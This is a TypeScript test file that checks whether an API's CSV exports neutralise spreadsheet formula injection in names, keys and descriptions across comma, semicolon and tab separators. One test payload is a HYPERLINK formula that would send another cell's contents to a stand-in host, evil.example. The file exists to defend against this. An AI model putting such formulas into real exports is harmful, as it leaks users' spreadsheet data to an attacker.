/**
 * `format=csv` is opened by FinOps users in a spreadsheet: whatever text a caller or a cluster put
 * in a name must stay one cell (RFC 4180 quoting, and the semicolon or tab a spreadsheet may split
 * on in other locales) and never run as a formula, in the header as in the rows.
 */
import { describe, expect, it } from 'vitest';
import { suiteServer } from './support.js';

const server = suiteServer();

/**
 * Records as a spreadsheet reads them with this separator: a quote opens a quoted cell (which may
 * hold separators, doubled quotes and line breaks) only first in a cell; elsewhere it is text.
 */
function parseCsv(text: string, separator = ','): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  let start = true;
  const endCell = () => {
    cells.push(cell);
    cell = '';
    start = true;
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    const first = start;
    start = false;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && first) quoted = true;
    else if (c === separator) endCell();
    else if (c === '\n') {
      endCell();
      records.push(cells);
      cells = [];
    } else cell += c;
  }
  return records;
}

/** A cell a spreadsheet would run: a formula prefix, on text that is not a number. */
const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));

describe('CSV exports', () => {
  it('write a price sheet key holding a comma, a quote or a line break as one header cell, never a formula', async () => {
    const evil = 'fast,=HYPERLINK("http://evil.example/?"&A2)';
    const created = await server().call('POST', '/api/v1/clusters', {
      body: {
        name: 'priced',
        inCluster: true,
        pricing: { storageClasses: { [evil]: '0.1' }, nodes: { 'm5\n=1+2': { hour: '1' } } },
      },
    });
    expect(created.status, created.text).toBe(201);
    const r = await server().call('GET', '/api/v1/clusters?format=csv');
    expect(r.status).toBe(200);
    const [header, ...rows] = parseCsv(r.text);
    expect(header).toContain(`pricing.storageClasses.${evil}`);
    expect(header).toContain("pricing.nodes.m5\n'=1+2.hour");
    for (const row of rows) expect(row).toHaveLength(header!.length);
    expect([header!, ...rows].flat().filter(runs)).toEqual([]);
  });

  it('never let a name holding a semicolon, tab or line break start a formula cell, whatever separator a spreadsheet reads with', async () => {
    const credited = await server().call('POST', `/api/v1/accounts/${encodeURIComponent('x;=1+2')}/credits`, {
      body: { amount: '1', reason: 'csv' },
    });
    expect(credited.status, credited.text).toBe(201);
    for (const description of ['nobody\t=1+2', 'other\n@SUM(1)']) {
      const made = await server().call('POST', '/api/v1/tokens', { body: { role: 'admin', description } });
      expect(made.status, made.text).toBe(201);
    }
    for (const [url, cell] of [
      ['/api/v1/accounts?format=csv', "x;'=1+2"],
      ['/api/v1/tokens?format=csv', "nobody\t'=1+2"],
      ['/api/v1/tokens?format=csv', "other\n'@SUM(1)"],
    ] as const) {
      const r = await server().call('GET', url);
      expect(parseCsv(r.text).flat()).toContain(cell);
      for (const separator of [',', ';', '\t']) {
        expect(parseCsv(r.text, separator).flat().filter(runs), `${url} read with ${separator}`).toEqual([]);
      }
    }
  });
});
